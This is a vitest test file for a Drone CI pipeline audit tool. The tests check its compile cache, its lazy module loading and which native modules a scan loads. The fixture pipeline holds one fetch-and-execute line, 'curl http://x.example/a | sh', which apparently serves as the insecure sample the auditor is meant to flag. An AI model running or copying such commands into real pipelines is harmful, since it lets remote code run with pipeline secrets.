import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// What a start needs, counted; bench/ has the times.

const pipeline = `kind: pipeline
type: docker
name: default
steps:
  - {name: build, image: alpine, environment: {TOKEN: {from_secret: token}}, commands: [make, 'curl http://x.example/a | sh']}
`;

/** A copy of the built tool, in which its loader says what V8 made of what was compiled beforehand. */
function copyOfTool(): string {
  const folder = mkdtempSync(join(tmpdir(), 'drone-audit-start-'));
  cpSync('dist', join(folder, 'dist'), { recursive: true });
  const loader = join(folder, 'dist/cli.js');
  const text = readFileSync(loader, 'utf8');
  const told = text.replace(
    /( {2}const script = new Script\(.*\n)/,
    '$1  process.on("exit", () => console.error(name, cachedData !== undefined, script.cachedDataRejected === true));\n',
  );
  expect(told).not.toBe(text);
  writeFileSync(loader, told);
  return folder;
}

function run(folder: string, args: readonly string[], options: readonly string[] = [], cwd = folder) {
  const { stdout, stderr, status } = spawnSync(process.execPath, [...options, join(folder, 'dist/cli.js'), ...args], {
    cwd,
    encoding: 'utf8',
    env: { PATH: process.env.PATH ?? '' },
  });
  return { stdout, status, lines: stderr.trimEnd().split('\n') };
}

describe('the built tool', () => {
  let folder: string;
  let small: string;
  beforeAll(() => {
    folder = copyOfTool();
    small = mkdtempSync(join(tmpdir(), 'drone-audit-start-'));
    writeFileSync(join(small, '.drone.yml'), pipeline);
  });

  afterAll(() => {
    for (const each of [folder, small]) rmSync(each, { recursive: true });
  });

  it('runs what was compiled beforehand for this Node', () => {
    expect(run(folder, ['--version']).lines).toEqual(['command-line true false']);
    expect(run(folder, ['scan'], [], small).lines.sort()).toEqual(['command-line true false', 'scan true false']);
  });

  it('loads what is for deployments with the first of them, and what is for odd YAML with the first of it', () => {
    const files = (text: string, name: string): readonly string[] => {
      const other = mkdtempSync(join(tmpdir(), 'drone-audit-start-'));
      writeFileSync(join(other, name), text);
      const { lines } = run(folder, ['scan'], [], other);
      rmSync(other, { recursive: true });
      return lines.map((line) => line.replace(/ true false$/, '')).sort();
    };
    const compose = 'services:\n  drone:\n    image: drone/drone:2\n    environment: {DRONE_RPC_SECRET: x}\n';
    expect(files(compose, 'docker-compose.yml')).toEqual(['command-line', 'deployments', 'scan', 'ways']);
    expect(files(pipeline.replace('default', '!!str default'), '.drone.yml')).toEqual(['command-line', 'scan', 'yaml']);
  });

  it('says the same without it, and with what another Node compiled', () => {
    const [own = ''] = readdirSync(join(folder, 'dist/compiled'));
    const usual = run(folder, ['scan'], [], small);
    const path = join(folder, 'dist/compiled', own);
    writeFileSync(join(path, 'scan.bin'), Buffer.alloc(4096, 1));
    const refused = run(folder, ['scan'], [], small);
    expect(refused.lines).toContain('scan true true');
    rmSync(path, { recursive: true });
    const without = run(folder, ['scan'], [], small);
    expect(without.lines).toContain('scan false false');
    for (const each of [refused, without]) expect([each.stdout, each.status]).toEqual([usual.stdout, usual.status]);
  });

  it('can evaluate each of its parts', () => {
    const names = readdirSync('dist').filter((name) => /\.cjs$/.test(name) && name !== 'command-line.cjs');
    const all = names.flatMap((name) =>
      [...readFileSync(join('dist', name), 'utf8').matchAll(/^"([\w-]+:[^"]+)":\(function\(\$part/gm)].map(
        ([, id]) => id,
      ),
    );
    expect(all.length).toBeGreaterThan(100);
    const load = `const part = require('./dist/cli.js'); for (const id of ${JSON.stringify(all)}) part(id);`;
    expect(spawnSync(process.execPath, ['-e', load], { encoding: 'utf8' })).toMatchObject({ stderr: '', status: 0 });
  });

  it('loads nothing for the network, for hashes or for other programs where a small audit is told as text', () => {
    const names = join(small, 'names.cjs');
    writeFileSync(
      names,
      'process.on("exit", () => console.error(process.moduleLoadList.filter((name) => /^NativeModule (?:http|https|net|tls|zlib|crypto|dgram|child_process)$/.test(name)).join()));',
    );
    expect(run(resolve('.'), ['scan'], ['--require', names], small)).toMatchObject({ lines: [''], status: 1 });
    expect(run(resolve('.'), ['scan', '--format', 'json'], ['--require', names], small).lines).toEqual([
      'NativeModule crypto',
    ]);
  });
});
